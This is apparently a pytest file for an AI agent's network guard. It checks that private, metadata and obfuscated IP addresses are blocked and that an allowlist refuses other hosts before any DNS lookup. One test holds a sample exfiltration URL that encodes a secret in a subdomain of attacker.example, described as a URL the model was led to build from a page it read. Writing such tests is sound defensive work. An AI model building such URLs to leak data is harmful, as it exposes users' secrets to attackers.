"""tools.netguard: which addresses Bruce may fetch from, checked before any request; a name is
looked up once, an IP literal never, and a host outside ``allowed_hosts`` not at all. (Its use by
read_url: tests/tools/web/test_page.py; the whole table of URL spellings: tests/security/test_ssrf.py.)"""

from __future__ import annotations

import pytest

from bruce.errors import ToolFailed
from tests.fakes.dns import CountingResolver, install_resolver
from tools.netguard import PinnedTransport, is_blocked_ip, resolve_and_check


@pytest.fixture
async def dns(monkeypatch: pytest.MonkeyPatch) -> CountingResolver:
    return install_resolver(monkeypatch, {"public.example": "93.184.216.34", "docs.example": "93.184.216.34",
                                         "intranet.example": "10.0.0.7"})


@pytest.mark.parametrize(
    "ip",
    ["127.0.0.1", "10.0.0.1", "172.16.5.4", "192.168.1.1", "169.254.169.254", "100.64.0.1",
     "224.0.0.1", "0.0.0.0", "240.0.0.1", "255.255.255.255", "::1", "::", "fe80::1",
     "fc00::1", "ff02::1", "::ffff:127.0.0.1", "::ffff:169.254.169.254", "2002:7f00:1::",
     "64:ff9b::a00:1", "not-an-ip"],
)
def test_blocked_ips(ip: str) -> None:
    assert is_blocked_ip(ip)


@pytest.mark.parametrize("ip", ["8.8.8.8", "93.184.216.34", "2606:4700:4700::1111"])
def test_public_ips_pass(ip: str) -> None:
    assert not is_blocked_ip(ip)


@pytest.mark.parametrize("url", ["https://8.8.8.8/dns-query", "http://134744072/", "http://8.8.8.8./",
                                 "https://[2606:4700:4700::1111]/"])
async def test_literal_public_ip_needs_no_dns(dns: CountingResolver, url: str) -> None:
    await resolve_and_check(url, allow_private=False)
    assert dns.asked == []
    await resolve_and_check("https://public.example/", allow_private=False)  # a name is looked up
    assert dns.asked == ["public.example"]


@pytest.mark.parametrize("url", ["http://127.1/", "http://0x7f000001/", "http://10.0.0.1./", "http://[::1]/"])
async def test_literal_private_ip_is_refused_without_dns(dns: CountingResolver, url: str) -> None:
    with pytest.raises(ToolFailed) as err:
        await resolve_and_check(url, allow_private=False)
    assert err.value.code == "blocked_address"
    assert dns.asked == []


async def test_any_private_resolution_blocks(dns: CountingResolver) -> None:
    dns.answers["mixed.example"] = ["93.184.216.34", "10.1.2.3"]
    with pytest.raises(ToolFailed) as err:
        await resolve_and_check("http://mixed.example/", allow_private=False)
    assert err.value.code == "blocked_address"
    assert "mixed.example" in str(err.value) and "10.1.2.3" in str(err.value)
    assert dns.asked == ["mixed.example"]
    # allow_private skips the address check, and the lookup, entirely
    await resolve_and_check("http://mixed.example/", allow_private=True)
    assert dns.asked == ["mixed.example"]


async def test_public_resolution_passes_and_dns_failure(dns: CountingResolver) -> None:
    dns.answers["public.example"] = "2606:4700:4700::1111"
    await resolve_and_check("https://public.example/page", allow_private=False)
    with pytest.raises(ToolFailed) as err:
        await resolve_and_check("https://nowhere.invalid/", allow_private=False)
    assert err.value.code == "dns_error" and "nowhere.invalid" in str(err.value)
    assert dns.asked == ["public.example", "nowhere.invalid"]


async def test_allowed_hosts_refuse_another_host_before_any_dns_lookup(dns: CountingResolver) -> None:
    """A URL the model made up from a page it read (``http://<secret>.attacker.example/``) must not
    reach DNS at all when tools.web.allowed_hosts is set: the lookup alone would leak the name."""
    from tools.web_tools import only_hosts

    dns.answers["c2VjcmV0LWRhdGE.attacker.example"] = "93.184.216.34"  # would resolve, and pass as public
    guard = only_hosts(["docs.example", "intranet.example"])
    with pytest.raises(ToolFailed) as err:
        await guard("https://c2VjcmV0LWRhdGE.attacker.example/x", allow_private=False)
    assert err.value.code == "blocked_address" and "attacker.example" in str(err.value)
    assert dns.asked == []
    with pytest.raises(ToolFailed) as err:
        await guard("ftp://docs.example/file", allow_private=False)
    assert err.value.code == "unsupported_scheme" and dns.asked == []
    await guard("https://docs.example/page", allow_private=False)  # allowed: looked up and checked as before
    assert dns.asked == ["docs.example"]
    with pytest.raises(ToolFailed) as err:  # allowed, but private: still refused after its lookup
        await guard("http://intranet.example/", allow_private=False)
    assert err.value.code == "blocked_address" and dns.asked == ["docs.example", "intranet.example"]


async def test_pinned_transport_needs_no_proxy() -> None:
    with pytest.raises(TypeError):
        PinnedTransport(proxy="http://127.0.0.1:3128")
